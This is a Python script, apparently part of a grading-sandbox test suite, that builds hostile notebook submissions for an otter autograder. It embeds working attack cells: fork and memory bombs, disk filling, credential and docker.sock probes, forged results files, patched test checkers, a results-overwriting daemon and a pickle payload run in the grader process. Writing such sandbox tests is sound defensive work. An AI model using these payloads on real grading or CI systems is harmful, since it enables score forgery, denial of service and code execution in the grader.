#!/usr/bin/env python3
"""Make hostile submissions for the sample assignment, to test the grading sandbox.

Reads the sample's student notebook (../sample/dist/student.ipynb; run ../sample/build.sh or
scripts/setup.sh first) and writes one notebook per case next to this script. Each keeps the
sample's routing metadata (otter_service = demo101 / section "1" / sample), so the sample's
autograder grades it. The hostile code is a cell inserted right after otter's init cell; the
answers are either filled in correctly (so an unchanged score of 1.0 proves the attack changed
nothing) or left as the `...` placeholders (so any score above 0 is a forgery).

  infinite-loop    while True: pass                                       -> timeout, 0
  fork-bomb        os.fork() in a loop, children loop too                 -> pids cap holds; timeout, 0
  memory-bomb      allocate 50 MB blocks until killed                     -> out_of_memory, 0
  network          HTTP and TCP to 192.0.2.1 (TEST-NET-1, never routed)   -> must fail; answers right, 1.0
  secrets          env, /proc/1/environ, docker.sock, mounts, caps, uid   -> nothing found; answers right, 1.0
  tamper-results   forges /job/out/results.json, replaces /job/autograder.zip; no answers -> 0
  tamper-tests     rewrites otter's test files in the grading directory; no answers       -> 0 wanted
  tamper-checker   patches otter's doctest runner inside the kernel; no answers           -> 0
  tamper-values    answers that equal anything, a numpy.isclose that says yes; no answers  -> 0
  read-tests       reads the autograder's tests (hidden cases too) wherever it can; answers
                   right only if it found any                                              -> 0
  tamper-late      a setsid daemon rewrites /job/out/results.json after otter wrote it     -> 0 wanted
  grader-exec      pickles for otter's log server and results file: code run in the grader
                   process patches the results to full marks; no answers                   -> 0 wanted
  print-flood      ~100 MB printed, ~100 MB to the container's stdout     -> bounded; 1.0 or a failure verdict
  kill-kernel      SIGKILL to its own kernel                              -> autograder_failed, 0
  disk-fill        writes 2 GB under /job (the job volume, on the host's disk); answers right

The notebooks carry no outputs and stable cell ids, so regenerating them gives identical files.
Needs only nbformat.

Usage: python3 make_hostile.py [--student ../sample/dist/student.ipynb] [--out .]
"""

import argparse
import pathlib
import sys
import textwrap

import nbformat

HERE = pathlib.Path(__file__).resolve().parent
sys.dont_write_bytecode = True  # do not leave __pycache__ in the sample
sys.path.insert(0, str(HERE.parent / "sample"))
from make_submissions import FULL, fill, stable_cell_id  # noqa: E402  (the sample's right answers and how it fills them)

INFINITE_LOOP = """\
# hostile: never finishes
while True:
    pass
"""

FORK_BOMB = """\
# hostile: fork bomb; every child keeps forking too
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""

MEMORY_BOMB = """\
# hostile: allocate (and touch) 50 MB blocks until the kernel is killed
x = []
while True:
    x.append(bytearray(50_000_000))
"""

NETWORK = """\
# hostile: try to reach the network. 192.0.2.1 is TEST-NET-1 (RFC 5737): never routed anywhere.
import socket
import urllib.request

found = []
network_errors = {}
try:
    urllib.request.urlopen("http://192.0.2.1/", timeout=3)
except Exception as e:
    network_errors["http"] = repr(e)
try:
    socket.create_connection(("192.0.2.1", 53), timeout=3).close()
except Exception as e:
    network_errors["tcp"] = repr(e)
# Every interface but loopback would be a hole.
network_interfaces = sorted(name for _, name in socket.if_nameindex())
network_failed = len(network_errors) == 2 and network_interfaces == ["lo"]
if not network_failed:
    found.append(f"the network was reachable: {network_errors} {network_interfaces}")
"""

SECRETS = """\
# hostile: look for credentials and for a way out; any find kills the kernel (score 0)
import os

found = []
WORDS = ("TOKEN", "SECRET", "OTTER_EDGE", "DOCKER", "PASSWORD", "CREDENTIAL", "API_KEY", "GATEWAY", "RUNNER")
found += [f"env {k}" for k in os.environ if any(w in k.upper() for w in WORDS)]
try:
    with open("/proc/1/environ", "rb") as f:
        pid1_env = f.read().decode(errors="replace").split("\\0")
    found += [f"/proc/1/environ {e.split('=')[0]}" for e in pid1_env if any(w in e.split("=")[0].upper() for w in WORDS)]
except OSError:
    pass
for sock in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/var/cache/otter-edge"):
    if os.path.exists(sock):
        found.append(f"exists {sock}")
with open("/proc/self/mountinfo") as f:
    mountinfo = f.read()
if "docker.sock" in mountinfo:
    found.append("docker.sock in mountinfo")
mount_points = sorted({line.split()[4] for line in mountinfo.splitlines()})
expected_mounts = {"/", "/job", "/tmp", "/home/grader", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf"}
found += [f"mount {m}" for m in mount_points if m not in expected_mounts and not m.startswith(("/proc", "/sys", "/dev"))]
expected_root = {"bin", "boot", "dev", "etc", "home", "lib", "lib32", "lib64", "libx32", "media", "mnt", "opt",
                 "proc", "root", "run", "sbin", "srv", "sys", "tmp", "usr", "var", "job", ".dockerenv"}
found += [f"/{e}" for e in os.listdir("/") if e not in expected_root]
with open("/proc/self/status") as f:
    status = dict(line.split(":\\t", 1) for line in f.read().splitlines() if ":\\t" in line)
if int(status["CapEff"], 16) != 0 or int(status["CapBnd"], 16) != 0:
    found.append(f"capabilities {status['CapEff']} {status['CapBnd']}")
if status.get("NoNewPrivs", "").strip() != "1":
    found.append("no_new_privs is off")
if os.getuid() == 0 or os.geteuid() == 0:
    found.append("running as root")
try:
    open("/usr/bin/hostile-probe", "w").close()
    found.append("root filesystem writable")
except OSError:
    pass
"""

TAMPER_RESULTS = """\
# hostile: forge the results outside otter's grading directory; answers are left blank
import io, json, zipfile

forged = {"score": 5, "tests": [{"name": q, "score": p, "max_score": p, "visibility": "visible", "output": "forged"}
                                for q, p in (("q1", 1), ("q2", 2), ("q3", 2))]}
tamper_log = []
for path in ("/job/out/results.json", "/job/results.json"):
    try:
        with open(path, "w") as f:
            json.dump(forged, f)
        tamper_log.append(f"wrote {path}")
    except OSError as e:
        tamper_log.append(f"{path}: {e}")
# An autograder whose tests always pass, over the one the runner copied in.
trivial = "OK_FORMAT = True\\n\\ntest = {'name': %r, 'points': %r, 'suites': [{'cases': [{'code': '>>> True\\\\nTrue', 'hidden': False, 'locked': False}], 'scored': True, 'setup': '', 'teardown': '', 'type': 'doctest'}]}\\n"
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    z.writestr("otter_config.json", json.dumps({"assignment_name": "sample", "lang": "python"}))
    for q, p in (("q1", 1), ("q2", 2), ("q3", 2)):
        z.writestr(f"tests/{q}.py", trivial % (q, p))
try:
    with open("/job/autograder.zip", "wb") as f:
        f.write(buf.getvalue())
    tamper_log.append("replaced /job/autograder.zip")
except OSError as e:
    tamper_log.append(f"/job/autograder.zip: {e}")
print(tamper_log)
"""

TAMPER_TESTS = """\
# hostile: rewrite otter's test files (the grading directory is writable by the notebook's user)
import glob, os

tamper_log = []
for path in sorted(set(glob.glob("tests/*.py") + glob.glob("/tmp/*/autograder/**/tests/*.py", recursive=True))):
    env = {}
    try:
        with open(path) as f:
            exec(f.read(), env)
        test = env["test"]
        for suite in test["suites"]:
            for case in suite["cases"]:
                case["code"] = ">>> True\\nTrue"
        with open(path, "w") as f:
            f.write(f"OK_FORMAT = True\\n\\ntest = {test!r}\\n")
        tamper_log.append(f"rewrote {os.path.abspath(path)}")
    except Exception as e:
        tamper_log.append(f"{path}: {e!r}")
print(tamper_log)
"""

TAMPER_CHECKER = """\
# hostile: the tests run in this very kernel, so make every doctest pass
import otter.test_files.ok_test as ok_test
ok_test.run_doctest = lambda name, doctest_string, global_environment: (True, "")
"""

TAMPER_VALUES = """\
# hostile: after every cell, the answers become objects that equal anything (a float subclass, so
# isinstance(x, float) holds too), and numpy's isclose says yes to everything: tests run in this
# kernel pass q1 and q2 (3 of 5 points under plain otter)
import numpy as np

class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __bool__(self): return True
    def __hash__(self): return 0
    def __repr__(self): return "True"

def _forge(*_):
    ns = get_ipython().user_ns
    ns["seconds_per_week"] = Anything(604800)
    ns["mean_temp_f"] = Anything(64.4)
    ns["is_palindrome"] = lambda text: Anything(1)

get_ipython().events.register("post_run_cell", _forge)
np.isclose = lambda *a, **k: True
"""

READ_TESTS = """\
# hostile: look for the autograder's tests wherever this kernel can read them (otter's copy in the
# grading directory, the extracted autograder, the job's autograder.zip); with any of them in hand,
# answer every question right (after every cell, so the notebook's own placeholders do not undo it)
import glob, zipfile

tests_read = []
for pattern in ("tests/*.py", "/tmp/*/autograder/*/tests/*.py", "/tmp/**/tests/*.py", "/autograder/**/tests/*.py"):
    for path in glob.glob(pattern, recursive=True):
        try:
            with open(path) as f:
                tests_read.append((path, f.read()))
        except OSError:
            pass
for path in glob.glob("/job/*.zip") + glob.glob("/tmp/**/*.zip", recursive=True):
    try:
        with zipfile.ZipFile(path) as z:
            tests_read += [(f"{path}:{n}", z.read(n).decode()) for n in z.namelist() if n.startswith("tests/")]
    except (OSError, zipfile.BadZipFile):
        pass
print("tests read:", [p for p, _ in tests_read])
ANSWERS = __ANSWERS__

def _answer(*_):
    if tests_read:
        exec(ANSWERS, get_ipython().user_ns)

get_ipython().events.register("post_run_cell", _answer)
"""

TAMPER_LATE = """\
# hostile: a daemon outside the kernel's process group waits for otter to write its results,
# then overwrites them before the container exits (many files in otter's temporary directory
# make its final clean-up slow, which widens the window)
import json, os, time

forged = json.dumps({"score": 5, "tests": [{"name": q, "score": p, "max_score": p, "visibility": "visible", "output": "forged"}
                                           for q, p in (("q1", 1), ("q2", 2), ("q3", 2))]})
os.makedirs("slow-cleanup", exist_ok=True)
for i in range(20000):
    open(f"slow-cleanup/{i}", "w").close()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        target = "/job/out/results.json"
        while True:
            try:
                with open(target) as f:
                    current = f.read()
                if current and current != forged:
                    with open(target + ".tmp", "w") as f:
                        f.write(forged)
                    os.replace(target + ".tmp", target)
            except (OSError, ValueError):
                pass
            time.sleep(0.002)
    os._exit(0)
os.wait()
"""

GRADER_EXEC = """\
# hostile: run code in the grader, not in the kernel. otter 7's grader process unpickles (a) what
# any local process sends to its execution-log server (address in this kernel's log handlers) and
# (b) the results file this kernel's export cell writes with pickle.dump. The pickle below, once
# loaded in the grader, replaces otter's results formatting there with full marks.
import logging, logging.handlers, pickle, socket, struct

PAYLOAD = '''
import otter.test_files as t
def forged(self, ag_config):
    return {"score": 5, "tests": [{"name": q, "score": p, "max_score": p, "visibility": "visible",
                                   "output": "forged in the grader"} for q, p in (("q1", 1), ("q2", 2), ("q3", 2))]}
t.GradingResults.to_gradescope_dict = forged
'''

class RunInGrader:
    def __reduce__(self):
        # loads as a GradingResults (what otter expects from its results file), after the patch ran
        return (eval, ("(exec(PAYLOAD_SRC), __import__('otter.test_files', fromlist=['t']).GradingResults([]))[1]",
                       {"PAYLOAD_SRC": PAYLOAD}))

grader_exec_log = []
record = pickle.dumps({"msg": "hello", "args": None, "payload": RunInGrader()})
handlers = {h for lg in list(logging.Logger.manager.loggerDict.values()) if isinstance(lg, logging.Logger)
            for h in lg.handlers if isinstance(h, logging.handlers.SocketHandler)}
for h in handlers:
    try:
        with socket.create_connection((h.host, h.port), timeout=3) as s:
            s.sendall(struct.pack(">L", len(record)) + record)
        grader_exec_log.append(f"sent a pickle to the log server {h.host}:{h.port}")
    except OSError as e:
        grader_exec_log.append(f"log server {h.host}:{h.port}: {e!r}")

_real_dump = pickle.dump
def _dump(obj, f, *args, **kwargs):
    _real_dump(RunInGrader(), f)
pickle.dump = _dump
print(grader_exec_log)
"""

PRINT_FLOOD = """\
# hostile: about 100 MB printed (into the notebook's outputs, held by otter), then about 100 MB
# written straight to the container's stdout (the engine's log of the container, on the host)
import sys
line = "x" * 999_999 + "\\n"
for _ in range(100):
    sys.stdout.write(line)
sys.stdout.flush()
try:
    with open("/proc/1/fd/1", "wb", buffering=0) as container_stdout:
        for _ in range(100):
            container_stdout.write(line.encode())
except OSError as e:
    print("container stdout:", e)
"""

KILL_KERNEL = """\
# hostile: kill its own kernel
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
"""

DISK_FILL = """\
# hostile: write 2 GB to the job directory (an anonymous volume on the host's disk)
import os, time
t0 = time.time()
written = 0
block = b"\\0" * (8 << 20)
try:
    with open("/job/big.bin", "wb") as f:
        while written < (2 << 30):
            f.write(block)
            written += len(block)
except OSError as e:
    print("stopped:", e)
print(f"wrote {written >> 20} MiB in {time.time() - t0:.1f} s")
"""

# otter executes every cell even after one raised, so a failed `assert` would not change the grade.
# A probe whose answer is "found something" (or which itself breaks) kills its kernel instead: the
# notebook then scores 0, and a score of 1.0 proves the probe ran to the end and found nothing.
GUARD = """\
import os, sys

def hostile_probe():
{body}
    return found

try:
    found = hostile_probe()
except BaseException as e:
    found = [f"the probe itself failed: {{e!r}}"]
if found:
    print("HOSTILE PROBE FOUND:", found, file=sys.__stderr__, flush=True)
    os._exit(1)
print("probe found nothing")
"""


def guarded(body: str) -> str:
    return GUARD.format(body=textwrap.indent(body.rstrip("\n"), "    "))


# name -> (hostile cell, answer the questions correctly?)
CASES = {
    "infinite-loop": (INFINITE_LOOP, True),
    "fork-bomb": (FORK_BOMB, True),
    "memory-bomb": (MEMORY_BOMB, True),
    "network": (guarded(NETWORK), True),
    "secrets": (guarded(SECRETS), True),
    "tamper-results": (TAMPER_RESULTS, False),
    "tamper-tests": (TAMPER_TESTS, False),
    "tamper-checker": (TAMPER_CHECKER, False),
    "tamper-values": (TAMPER_VALUES, False),
    "read-tests": (READ_TESTS.replace("__ANSWERS__", repr("\n".join(FULL.values()))), False),
    "tamper-late": (TAMPER_LATE, False),
    "grader-exec": (GRADER_EXEC, False),
    "print-flood": (PRINT_FLOOD, True),
    "kill-kernel": (KILL_KERNEL, True),
    "disk-fill": (DISK_FILL, True),
}


def make(student: nbformat.NotebookNode, hostile: str, answer: bool) -> nbformat.NotebookNode:
    nb = fill(student, FULL if answer else {})
    # after otter's init cell ("grader = otter.Notebook(...)") when there is one, else first
    at = next((i + 1 for i, c in enumerate(nb.cells) if c.cell_type == "code" and "otter.Notebook(" in c.source), 0)
    nb.cells.insert(at, nbformat.v4.new_code_cell(hostile.rstrip("\n")))
    for index, cell in enumerate(nb.cells):
        cell.id = stable_cell_id(index, cell)
    nbformat.validate(nb)
    return nb


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--student", type=pathlib.Path, default=HERE.parent / "sample" / "dist" / "student.ipynb")
    parser.add_argument("--out", type=pathlib.Path, default=HERE)
    args = parser.parse_args()

    student = nbformat.read(args.student, as_version=4)
    args.out.mkdir(parents=True, exist_ok=True)
    for name, (hostile, answer) in CASES.items():
        path = args.out / f"{name}.ipynb"
        nbformat.write(make(student, hostile, answer), path)
        print(f"wrote {path.relative_to(HERE) if path.is_relative_to(HERE) else path}")


if __name__ == "__main__":
    main()
